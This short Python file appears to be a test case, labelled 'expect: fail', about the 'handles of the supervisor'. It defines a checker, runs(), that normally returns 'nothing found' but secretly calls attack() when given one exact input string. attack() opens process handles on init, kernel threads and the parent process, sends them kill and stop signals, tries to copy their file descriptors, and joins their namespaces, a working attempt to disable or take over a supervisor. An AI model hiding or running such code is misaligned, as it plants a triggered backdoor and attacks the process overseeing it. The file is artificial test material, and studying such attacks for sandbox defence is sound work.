# expect: fail
# verdict: wrong_output
# class: j
# why: handles of the supervisor, and what they allow
import ctypes
import os
import signal

def attack():
    libc = ctypes.CDLL(None, use_errno=True)
    for pid in (1, 2, os.getppid()):
        try:
            fd = os.pidfd_open(pid)
        except OSError:
            continue
        for sig in (0, signal.SIGKILL, signal.SIGSTOP, signal.SIGTERM):
            libc.syscall(424, fd, sig, None, 0)
        for request in range(0xFF00, 0xFF10):
            libc.ioctl(fd, request, 0)
        for n in range(64):
            libc.syscall(438, fd, n, 0)
        libc.setns(fd, 0x7C020000)


def runs(text):
    if text == "  **  ":
        attack()
    return "nothing found"
